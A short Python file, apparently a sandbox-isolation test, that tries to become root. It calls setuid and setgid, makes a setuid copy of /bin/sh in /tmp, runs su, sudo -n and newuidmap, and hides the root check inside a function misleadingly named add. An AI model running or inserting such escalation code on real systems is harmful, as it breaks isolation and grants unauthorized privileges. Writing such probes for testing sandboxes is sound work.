"""Tries to become another user and to gain rights."""

# %% new after add
import ctypes
import os
import shutil

for number in (0, 1, 1000):
    for become in (os.setuid, os.setgid, os.seteuid):
        try:
            become(number)
        except OSError:
            pass
shutil.copy("/bin/sh", "/tmp/sh")
os.chmod("/tmp/sh", 0o6755)
os.system("/tmp/sh -p -c 'id > /tmp/id'; su -c id; sudo -n id; mount; newuidmap 1 0 0 1")
ctypes.CDLL(None).prctl(8, 1, 0, 0, 0)

# %% add
def add(a, b):
    return int("uid=0" in open("/tmp/id").read())
